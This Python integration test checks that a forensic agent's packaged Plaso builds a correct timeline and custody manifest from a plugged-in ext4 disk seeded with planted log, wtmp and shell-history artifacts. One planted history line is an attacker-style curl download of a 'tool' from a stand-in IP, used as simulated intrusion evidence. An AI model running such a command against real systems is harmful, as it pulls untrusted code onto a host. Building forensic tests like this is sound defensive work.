"""Plaso itself, as the packages left it in the image: from a volume that is plugged in to its timeline."""

import hashlib
import json
import os
import struct
import subprocess
import tempfile
import time

import vm
from rig import FIRST, FIRST_ID, UUID, Lab, claim, state

# utmp(5) of x86-64: kind, process, line, id, user, host, exit, session, time, address.
RECORD = struct.Struct("<hxxi32s4s32s256shhiii4s12x20x")
LOG_IN, LOG_OUT = 7, 8
OPENED = 1763632800  # 2025-11-20 10:00 UTC

PLANTED = {
    "var/log/auth.log": "2025-11-20T10:00:05.000000+00:00 web-01 sshd[4711]: Accepted password for planted-heron from 198.51.100.7 port 50022 ssh2\n",
    "var/log/syslog": "2025-11-20T10:00:09.000000+00:00 web-01 unit[4712]: the planted line of syslog\n",
    "root/.bash_history": "#1763632815\ncurl -o /tmp/planted-tool https://198.51.100.7/tool\n",
}
# What has to be in the timeline: kind of event, time, text.
EXPECTED = [
    ("syslog:line", "2025-11-20T10:00:05", "planted-heron from 198.51.100.7"),
    ("syslog:line", "2025-11-20T10:00:09", "the planted line of syslog"),
    ("bash:history:entry", "2025-11-20T10:00:15", "/tmp/planted-tool"),
    ("linux:utmp:event", "2025-11-20T10:00:00", "planted-owl"),
]

CONFIGURATION = """
mkdir -p /etc/dfagent/conf.d
cat >/etc/dfagent/conf.d/10-site.toml <<'TOML'
[attach.evidence]
points = ["/dev/sd[f-p]"]
case = "4711"
TOML
"""


def make_small(path):
    """An ext4 disk with a line of each kind."""
    with tempfile.TemporaryDirectory() as folder:
        for name, text in PLANTED.items():
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            with open(os.path.join(folder, name), "w", encoding="utf-8") as file:
                file.write(text)
        with open(os.path.join(folder, "var", "log", "wtmp"), "wb") as file:
            for kind, user, seconds in ((LOG_IN, b"planted-owl", OPENED), (LOG_OUT, b"", OPENED + 60)):
                file.write(RECORD.pack(kind, 4713, b"pts/0", b"ts/0", user, b"198.51.100.9", 0, 0, 0, seconds, 0, bytes(4)))
        with open(path, "wb") as file:
            file.truncate(8 << 20)
        subprocess.run(["mkfs.ext4", "-q", "-F", "-U", UUID, "-L", "root", "-d", folder, path], check=True)


def has_ended(jobs):
    """Whether nothing more becomes of the job."""
    return state(jobs, FIRST_ID) in ("done", "failed", "parked")


@claim
def the_installed_plaso_makes_a_timeline_of_a_volume_that_is_plugged_in():
    with vm.restore() as machine:
        lab = Lab(machine)
        # Nothing is set but what is evidence: the packages' own program, environment and filters are under test.
        assert machine.run("dpkg-query -W -f '${Status}\\n' dfagent dfagent-plaso").split("\n")[:2] == ["install ok installed"] * 2
        machine.run(CONFIGURATION)
        with open(os.path.join(vm.HERE, "guest", "left.py"), encoding="utf-8") as file:
            machine.run(f"mkdir /payload; cat >/payload/left.py <<'.'\n{file.read()}\n.")
        lab.start()
        begun = time.monotonic()
        disk = lab.plug(0, FIRST, "/dev/sdf", make=make_small)
        machine.wait("pgrep -u dfagent-cage -f '^/plaso/bin/python .*log2timeline'", 120)
        first = time.monotonic() - begun
        jobs = lab.wait_for(has_ended, 600)
        print(f"Plaso began {first:.1f} s after the disk was plugged in, and the job was done after {time.monotonic() - begun:.1f} s")
        assert jobs[FIRST_ID]["job"]["state"] == {"name": "done", "verdict": "complete"}, jobs

        folder = jobs[FIRST_ID]["job"]["folder"]
        timeline = machine.run(f"cat {folder}/timeline.jsonl")
        events = [json.loads(line) for line in timeline.splitlines()]
        for kind, when, text in EXPECTED:
            of_kind = [f"{one['datetime']} {one['message']}" for one in events if one["data_type"] == kind]
            fits = [line for line in of_kind if line.startswith(when) and text in line]
            assert len(fits) == 1, f"{kind} {when} {text}: {of_kind}"
        manifest = json.loads(machine.run(f"cat {folder}/manifest.json"))
        assert manifest["verdict"] == {"level": "complete", "reasons": []}, manifest["verdict"]
        assert manifest["case"] == "4711" and manifest["job"] == FIRST_ID, manifest
        hashes = [manifest["custody"][when]["sampled_sha256"] for when in ("before", "after")]
        assert hashes[0] == hashes[1], hashes
        assert jobs[FIRST_ID]["result"]["documents"] == len(events), jobs
        assert hashlib.sha256(timeline.encode()).hexdigest() in json.dumps(manifest), "the manifest has the timeline's hash"
        machine.run(f"dfagent verify {folder}/manifest.json", 120)
        lab.wait_until_nothing_is_left(30)
        lab.pull(disk)
